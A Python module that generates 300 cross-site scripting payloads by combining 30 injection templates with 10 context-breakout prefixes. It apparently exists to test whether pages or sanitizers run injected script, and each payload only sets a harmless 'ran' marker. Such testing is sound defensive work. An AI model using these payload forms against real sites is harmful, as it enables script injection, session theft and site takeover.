"""Texts that run as scripts where a page does not take them for texts."""

from __future__ import annotations

from itertools import product

RUN = "parent.ran=1;window.ran=1"
"""What each of them would do."""

_SCRIPTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src='data:text/javascript,{}'></script>",
    "<script type=module>{}</script>", "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">',
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src='javascript:{}'>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<a href='javascript:{}' id=go>go</a>",
    "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>", "<marquee onstart={}>", "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<x onclick={} contenteditable autofocus onfocus={}>",
    "<style>@import 'javascript:{}'</style>",
)  # fmt: skip
_LEAVES = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\\"';", "</svg>",
)  # fmt: skip
"""What ends the text, attribute or element the payload may stand in."""

PAYLOADS = tuple(leave + script.replace("{}", RUN) for leave, script in product(_LEAVES, _SCRIPTS))
"""300 of them."""
